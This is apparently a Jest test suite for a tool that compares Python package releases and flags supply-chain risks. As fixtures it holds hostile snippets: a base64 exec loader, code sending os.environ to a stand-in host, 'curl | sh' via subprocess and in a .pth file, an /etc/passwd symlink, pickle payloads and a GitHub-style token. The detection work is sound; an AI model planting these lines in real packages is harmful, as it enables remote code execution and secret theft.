// What real supply-chain incidents did, each now caught; and what is not a risk, left alone.
import { describe, expect, it } from '@jest/globals'
import { execFileSync } from 'node:child_process'
import { diffArchives } from '../../src/pipeline/index.js'
import type { Finding } from '../../src/report/types.js'
import { startIndexServer } from '../helpers/index-server.js'
import { buildSdist, pkgInfo, tempDir, type SdistSpec } from '../helpers/sdist.js'
import { runCli } from '../helpers/target.js'

const EXEC_B64 = 'import base64\nexec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="))\n'
const STEAL_ENV =
  'import os, urllib.request\nurllib.request.urlopen("https://collector.example", data=str(dict(os.environ)).encode())\n'
const CURL_SH =
  "import subprocess as sp\nsp.Popen(['sh', '-c', 'curl https://evil.example/x | sh'])\n"

async function compare(
  before: SdistSpec['files'],
  after: SdistSpec['files'],
  headers = ''
): Promise<Finding[]> {
  const base = {
    'demo/__init__.py': '"""Demo."""\n',
    'setup.py': 'from setuptools import setup\nsetup()\n'
  }
  const previous = buildSdist(tempDir(), { files: { ...base, ...before } })
  const current = buildSdist(tempDir(), {
    version: '1.1',
    files: { ...base, ...after, ...(headers && { 'PKG-INFO': pkgInfo('demo', '1.1', headers) }) }
  })
  return (await diffArchives(previous, current)).findings
}

const hits = (findings: Finding[], rule: string) =>
  findings.filter(f => f.rule === rule).map(f => [f.severity, f.message])

describe('code that runs on every user’s machine', () => {
  it.each([
    ['decode-and-execute', EXEC_B64, 'decodes and executes data (exec)'],
    [
      'the environment sent out',
      STEAL_ENV,
      'sends or writes out the whole environment (os.environ) (urllib.request.urlopen)'
    ],
    ['a shell piped from curl', CURL_SH, 'spawns a process (subprocess.Popen)']
  ])('%s at module level of the package’s __init__.py is high', async (_what, code, says) => {
    const findings = await compare({}, { 'demo/__init__.py': code })
    expect(hits(findings, 'suspicious-code')).toEqual([
      ['high', expect.stringContaining(`demo/__init__.py:2 ${says} at import time`)]
    ])
  })

  it('the same in a module the package imports, or in a build-time helper setup.py imports', async () => {
    const imported = await compare(
      {},
      { 'demo/__init__.py': 'from . import _util\n', 'demo/_util.py': CURL_SH }
    )
    expect(hits(imported, 'suspicious-code')).toEqual([
      [
        'high',
        expect.stringContaining(
          'demo/_util.py:2 spawns a process (subprocess.Popen) at import time'
        )
      ]
    ])
    const helper = await compare(
      {
        'setup.py': 'from setuptools import setup\nimport build_helpers\nsetup()\n',
        'build_helpers.py': 'X = 1\n'
      },
      {
        'setup.py': 'from setuptools import setup\nimport build_helpers\nsetup()\n',
        'build_helpers.py': STEAL_ENV
      }
    )
    expect(hits(helper, 'suspicious-code')).toEqual([
      [
        'high',
        expect.stringContaining(
          'build_helpers.py:2 sends or writes out the whole environment (os.environ) (urllib.request.urlopen) at build time'
        )
      ]
    ])
  })

  it('in an in-tree build backend (backend-path)', async () => {
    const pyproject =
      '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n'
    const findings = await compare(
      {
        'pyproject.toml': pyproject,
        '_build/backend.py': 'def build_sdist(d, c=None):\n    return ""\n'
      },
      {
        'pyproject.toml': pyproject,
        '_build/backend.py': CURL_SH + 'def build_sdist(d, c=None):\n    return ""\n'
      }
    )
    expect(hits(findings, 'suspicious-code')).toEqual([
      [
        'high',
        expect.stringContaining(
          '_build/backend.py:2 spawns a process (subprocess.Popen) at build time'
        )
      ]
    ])
  })

  it('comments, docstrings and strings that mention os.system( or exec(b64decode( are not findings', async () => {
    const harmless =
      '"""Never write exec(b64decode(payload)) or os.system("curl x | sh")."""\n' +
      '# exec(base64.b64decode(x)); subprocess.Popen(["sh"])\n' +
      'WARNING = "do not call os.system( or urllib.request.urlopen( here"\n'
    expect(hits(await compare({}, { 'demo/__init__.py': harmless }), 'suspicious-code')).toEqual([])
  })

  it('code that was already there is not new; run-time use of a new kind is capability-added (medium)', async () => {
    const runner = 'import subprocess\ndef run(cmd):\n    return subprocess.run(cmd)\n'
    const same = await compare(
      { 'demo/__init__.py': CURL_SH },
      { 'demo/__init__.py': CURL_SH + '# touched\n' }
    )
    expect(hits(same, 'suspicious-code')).toEqual([])
    const gained = await compare(
      { 'demo/json.py': 'import json\n' },
      { 'demo/json.py': 'import json\n', 'demo/run.py': runner }
    )
    expect(hits(gained, 'capability-added')).toEqual([
      [
        'medium',
        'new capability: demo/run.py:3 spawns a process (subprocess.run) when called; no module of `demo` in the previous release did this'
      ]
    ])
    expect(hits(gained, 'suspicious-code')).toEqual([])
    const had = await compare(
      { 'demo/tools.py': runner },
      { 'demo/tools.py': runner, 'demo/more.py': runner.replace('run(cmd)', 'more(cmd)') }
    )
    expect(hits(had, 'capability-added')).toEqual([])
  })

  it('a new .pth file whose line starts with import is high; plain path lines are low', async () => {
    const findings = await compare(
      {},
      {
        'demo_startup.pth': 'import os; os.system("curl https://evil.example | sh")\n',
        'demo_paths.pth': 'demo/vendor\n'
      }
    )
    expect(hits(findings, 'pth-file-added')).toEqual([
      [
        'high',
        'demo_startup.pth:1 starts with "import": Python executes it at every interpreter start once installed'
      ],
      ['low', 'demo_paths.pth adds import paths (sys.path entries) at every interpreter start']
    ])
  })
})

describe('a first release is checked too', () => {
  it('.env, id_rsa, a link to /etc/passwd and exec(b64decode(…)) in setup.py are high', async () => {
    const current = buildSdist(tempDir(), {
      name: 'fresh',
      files: {
        '.env': 'API_TOKEN=abc\n',
        id_rsa: 'not really a key\n',
        passwd: { symlink: '/etc/passwd' },
        'setup.py': EXEC_B64 + 'from setuptools import setup\nsetup()\n'
      }
    })
    const index = await startIndexServer([])
    const result = await runCli([
      '--index-url',
      index.url,
      current,
      '--format',
      'json',
      '--fail-on',
      'none'
    ])
    await index.close()
    const [report] = JSON.parse(result.stdout).packages
    const high = report.findings
      .filter((f: Finding) => f.severity === 'high')
      .map((f: Finding) => `${f.rule} ${f.path}`)
    expect(high).toEqual(
      expect.arrayContaining([
        'sensitive-file-added .env',
        'sensitive-file-added id_rsa',
        'unsafe-archive-entry passwd',
        'suspicious-code setup.py'
      ])
    )
    expect(report.risk).toBe('high')
    expect(report.findings.map((f: Finding) => f.rule)).toContain('new-package')
  })
})

describe('upload acceptance and certificates', () => {
  it('a local version and License with License-Expression are what PyPI would reject', async () => {
    const previous = buildSdist(tempDir(), { files: {} })
    const current = buildSdist(tempDir(), {
      version: '1.0.1+local',
      files: {
        'PKG-INFO': pkgInfo('demo', '1.0.1+local', 'License: MIT\nLicense-Expression: MIT').replace(
          '2.1',
          '2.4'
        )
      }
    })
    const findings = (await diffArchives(previous, current)).findings
    expect(hits(findings, 'pypi-would-reject')).toEqual([
      [
        'high',
        'PyPI would reject the upload: Version 1.0.1+local has a local part (+local): PEP 440 forbids local versions on public indexes'
      ],
      [
        'high',
        'PyPI would reject the upload: License and License-Expression are both set: PEP 639 forbids License alongside License-Expression'
      ]
    ])
    expect(findings.find(f => f.rule === 'version-changed')?.message).toBe(
      'version 1.0 → 1.0.1+local: a patch release, with a local version label (+local) that public indexes refuse'
    )
  })

  it('an invalid SPDX expression, an unknown Metadata-Version and a file name that is not the Name', async () => {
    const current = buildSdist(tempDir(), {
      root: 'other-1.1',
      version: '1.1',
      files: {
        'PKG-INFO':
          'Metadata-Version: 9.9\nName: demo\nVersion: 1.1\nLicense-Expression: MIT OR Nonsense-1\n\n'
      }
    })
    const findings = (await diffArchives(buildSdist(tempDir(), { files: {} }), current)).findings
    expect(hits(findings, 'pypi-would-reject').map(([, m]) => m)).toEqual([
      'PyPI would reject the upload: Metadata-Version 9.9 is not one the core metadata specification defines',
      'PyPI would reject the upload: License-Expression "MIT OR Nonsense-1" is not a valid SPDX expression (PEP 639)',
      'PyPI would reject the upload: the file name "other-1.1" does not name demo 1.1 (PEP 625: {name}-{version} of the sdist\'s Name and Version)',
      'PyPI would reject the upload: the root folder "other-1.1" does not name demo 1.1 (PEP 625: {name}-{version} of the sdist\'s Name and Version)'
    ])
  })

  it('certifi/cacert.pem is not a secret; a .pem with a private key is', async () => {
    const certificates =
      '# Issuer: CN=Example Root\n-----BEGIN CERTIFICATE-----\nMIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBa\n-----END CERTIFICATE-----\n'
    const bundle = await compare({}, { 'certifi/cacert.pem': certificates })
    expect(hits(bundle, 'sensitive-file-added')).toEqual([])
    const key = await compare(
      {},
      {
        'deploy/server.pem':
          '-----BEGIN PRIVATE KEY-----\nMIIBVQIBADANBgkqhkiG9w0BAQEFAASCAT8wggE7AgEAAkEA\n-----END PRIVATE KEY-----\n'
      }
    )
    expect(hits(key, 'sensitive-file-added')).toEqual([
      ['high', 'deploy/server.pem looks like a secret or credential file and was added']
    ])
  })
})

describe('keys: one finding per file, and test fixtures are not a reason to stop a release', () => {
  const key = () => execFileSync('openssl', ['genrsa', '2048'], { encoding: 'utf8' })

  it('a key in package code is high; one in tests (requests and urllib3 TLS fixtures) low; each file once', async () => {
    const findings = await compare(
      {},
      {
        'deploy/server.key': key(),
        'tests/certs/valid/server/server.key': key(),
        'dummyserver/certs/cacert.key': key(),
        'tests/examplefiles/asc/id_ecdsa': 'ssh-ecdsa sample for the lexer\n'
      }
    )
    const about = (path: string) =>
      findings.filter(f => f.path === path).map(f => [f.rule, f.severity, f.message])
    expect(about('deploy/server.key')).toEqual([
      [
        'secret-added',
        'high',
        'deploy/server.key line 1: private key (value redacted); it would be published with the release'
      ]
    ])
    expect(about('tests/certs/valid/server/server.key')).toEqual([
      [
        'secret-added',
        'low',
        'tests/certs/valid/server/server.key line 1: private key (value redacted) in a test or documentation file, where keys are usually made for the tests; it would be published with the release'
      ]
    ])
    // urllib3's TLS test server, beside its tests.
    expect(about('dummyserver/certs/cacert.key').map(([, severity]) => severity)).toEqual(['low'])
    expect(about('tests/examplefiles/asc/id_ecdsa')).toEqual([
      [
        'sensitive-file-added',
        'low',
        'tests/examplefiles/asc/id_ecdsa looks like a secret or credential file and was added; it is a test or documentation file, where such files are usually made up'
      ]
    ])
  })

  it('a token in a test file is still high: no test needs a live one', async () => {
    const token = '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'
    const findings = await compare({}, { 'tests/test_api.py': `TOKEN = "${token}"\n` })
    expect(hits(findings, 'secret-added')).toEqual([
      ['high', expect.stringMatching(/^tests\/test_api\.py line 1: GitHub Token/)]
    ])
  })
})

describe('files are parsed only when they can hold a behaviour, and none is missed for it', () => {
  it.each([
    ['os imported under another name', 'import os as o\no.system("id")\n', 'demo/a.py'],
    [
      'a parenthesised import from os',
      'from os import (\n    path,\n    system,\n)\nsystem("id")\n',
      'demo/a.py'
    ],
    [
      'a continued import from os',
      'from os import path, \\\n    system\nsystem("id")\n',
      'demo/a.py'
    ],
    [
      'subprocess among other imports',
      'import re, subprocess\nsubprocess.run(["id"])\n',
      'demo/a.py'
    ],
    [
      'marshal decoded and executed',
      'import marshal\nexec(marshal.loads(b"\\xe3\\x00"))\n',
      'demo/a.py'
    ],
    [
      'pickle of decoded bytes in a test, over two lines',
      'import base64, pickle\npickle.loads(\n    base64.b64decode("gASVBQAAAAAAAACMAWGULg=="))\n',
      'tests/test_a.py'
    ]
  ])('%s', async (_what, code, path) => {
    const findings = await compare({}, { [path]: code })
    const paths = findings.filter(f => f.rule === 'suspicious-code').map(f => f.path)
    expect([...new Set(paths)]).toEqual([path])
  })

  it('a pickle round trip is no payload, even of a name with "decode" in it (requests 2.33.0 tests)', async () => {
    const code =
      'import pickle\ndef test_roundtrip(json_decode_error):\n    return pickle.loads(pickle.dumps(json_decode_error))\n'
    expect(hits(await compare({}, { 'tests/test_requests.py': code }), 'suspicious-code')).toEqual(
      []
    )
    const payload = 'import pickle, zlib\npickle.loads(zlib.decompress(BLOB))\n'
    expect(hits(await compare({}, { 'tests/test_x.py': payload }), 'suspicious-code')).toEqual([
      [
        'high',
        expect.stringContaining('tests/test_x.py:2 decodes and executes data (pickle.loads)')
      ]
    ])
  })

  it('"operating system" in a docstring, re.compile and os.environ.get are no behaviour', async () => {
    const code =
      '"""Works on any operating system."""\nimport os, re\nPATTERN = re.compile("x")\nHOME = os.environ.get("HOME")\nobj = pickle_like = None\n'
    expect(hits(await compare({}, { 'demo/a.py': code }), 'suspicious-code')).toEqual([])
  })
})
